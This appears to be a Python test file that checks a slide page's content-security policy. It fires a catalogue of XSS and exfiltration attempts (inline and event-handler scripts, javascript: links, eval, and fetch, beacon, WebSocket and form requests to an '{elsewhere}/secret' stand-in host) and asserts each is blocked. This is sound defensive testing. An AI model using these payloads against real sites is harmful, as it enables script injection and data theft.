"""The page's content-security policy, tried: a script that got in can do nothing with the page's help."""

import re

import pytest

from slides.kit.serve import on_page
from tests.kit.webhost import answering, hosting
from tests.waiting import opened, until

ATTEMPTS = {
    "inline script": "add('script', { textContent: 'window.broken = 1' })",
    "script from elsewhere": "add('script', { src: '{elsewhere}/evil.js' })",
    "data script": "add('script', { src: 'data:text/javascript,window.broken = 1' })",
    "event handler": "into('<img src=x onerror=\"window.broken = 1\">')",
    "javascript: link": "into('<a id=evil href=\"javascript:window.broken = 1\">x</a>'), click('#evil')",
    "picture from elsewhere": "new Image().src = '{elsewhere}/pixel.gif'",
    "style from elsewhere": "add('link', { rel: 'stylesheet', href: '{elsewhere}/evil.css' })",
    "font from elsewhere": "new FontFace('x', 'url({elsewhere}/x.woff)').load().catch(() => {})",
    "style's picture": "into('<p style=\"background: url({elsewhere}/pixel.gif)\">x</p>')",
    "fetch": "fetch('{elsewhere}/secret').catch(() => {})",
    "beacon": "navigator.sendBeacon('{elsewhere}/secret', 'x')",
    "event source": "new EventSource('{elsewhere}/secret')",
    "WebSocket": "try { new WebSocket('{elsewhere}/secret'.replace('http', 'ws')) } catch {}",
    "form": "into('<form action=\"{elsewhere}/secret\"><button id=send>x</button></form>'), click('#send')",
    "frame": "add('iframe', { src: '{elsewhere}/frame' })",
    "frame with a script": "add('iframe', { srcdoc: '<script>parent.broken = 1<' + '/script>' })",
    "object": "add('object', { data: '{elsewhere}/x.swf' })",
    "worker": "try { new Worker('{elsewhere}/evil.js') } catch {}",
    "manifest": "add('link', { rel: 'manifest', href: '{elsewhere}/x.json' })",
    "media": "add('video', { src: '{elsewhere}/x.mp4', autoplay: true })",
    "prefetch": "add('link', { rel: 'prefetch', href: '{elsewhere}/secret' })",
    "base": "add('base', { href: '{elsewhere}/' })",
    "eval": "try { eval('window.broken = 1') } catch {}",
    "Function": "try { new Function('window.broken = 1')() } catch {}",
    "timer of text": "setTimeout('window.broken = 1')",
}
# A browser without a window asks for no manifest; the framed page is told of its own breaches, not ours; a
# worker from elsewhere is refused before any policy is asked.
SILENT = {"manifest", "frame with a script", "worker"}
HELPERS = """
  window.violations = [];
  document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.effectiveDirective));
  window.add = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
  window.click = (selector) => document.querySelector(selector).click();
  window.into = (html) => document.body.insertAdjacentHTML('beforeend', html);
"""


@pytest.fixture(scope="module")
def elsewhere():
    """Another site's address, and what it was asked for."""
    asked = []

    with answering(lambda path, body: asked.append(path) or b"") as address:
        yield address, asked


@pytest.fixture(scope="module", params=["file", "served", "site"])
def address(request, talk_page):
    if request.param == "file":
        yield talk_page.as_uri()
    elif request.param == "site":
        with hosting(talk_page.parent) as host:
            yield f"{host}/repo/"
    else:
        with on_page.server(talk_page) as server:
            yield on_page.address(server)


def test_every_way_in_or_out_is_shut(address, elsewhere, visit):
    # What Playwright runs comes by DevTools, which the policy doesn't bind; what a timer then calls, it does.
    page = opened(visit().page, address)
    page.evaluate(HELPERS)
    (site, asked), unseen = elsewhere, []
    for name, attempt in ATTEMPTS.items():
        before = page.evaluate("window.violations.length")
        page.evaluate(f"() => setTimeout(() => {{ {attempt.replace('{elsewhere}', site)} }})")
        try:
            until(page, f"window.violations.length > {before}", 0.1 if name in SILENT else 3)
        except AssertionError:
            unseen.append(name)
        assert page.evaluate("window.broken") is None, name
    assert set(unseen) <= SILENT
    assert asked == []
    assert page.url.startswith(address.split("?")[0]), "and the page is still there"


def test_the_policy_itself_names_no_unsafe_script_and_no_other_address(talk_page):
    text = talk_page.read_text(encoding="utf-8")
    policy = re.search(r'<meta content="([^"]+)" http-equiv="Content-Security-Policy"', text)[1]
    directives = dict(part.split(" ", 1) for part in policy.split("; "))
    assert directives["default-src"] == "'none'"
    assert directives["connect-src"] == "'self'"
    assert directives["base-uri"] == directives["form-action"] == "'none'"
    assert "unsafe" not in directives["script-src"]
    assert directives["worker-src"] == "blob:"
    assert "http" not in policy
    assert "*" not in policy


IN_A_WORKER = """
  const attempts = {
    eval: () => eval("1"), Function: () => new Function("return 1")(),
    wasm: () => WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)),
    fetch: () => fetch("{elsewhere}/secret"), script: () => importScripts("{elsewhere}/evil.js"),
  };
  const said = async (attempt) => { try { await attempt(); return "done"; } catch { return "refused"; } };
  (async () => {
    const results = {};
    for (const [name, attempt] of Object.entries(attempts)) results[name] = await said(attempt);
    postMessage(results);
  })();
"""


def test_a_worker_of_the_pages_own_may_run_but_no_more_than_the_page(open_talk, elsewhere):
    page, (site, asked) = open_talk().page, elsewhere
    page.evaluate("""(text) => {
      const worker = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
      worker.onmessage = ({ data }) => { window.fromWorker = data; };
    }""", IN_A_WORKER.replace("{elsewhere}", site))
    until(page, "window.fromWorker", 10)
    refused = page.evaluate("window.fromWorker")
    assert refused == dict.fromkeys(("eval", "Function", "wasm", "fetch", "script"), "refused")
    assert asked == []
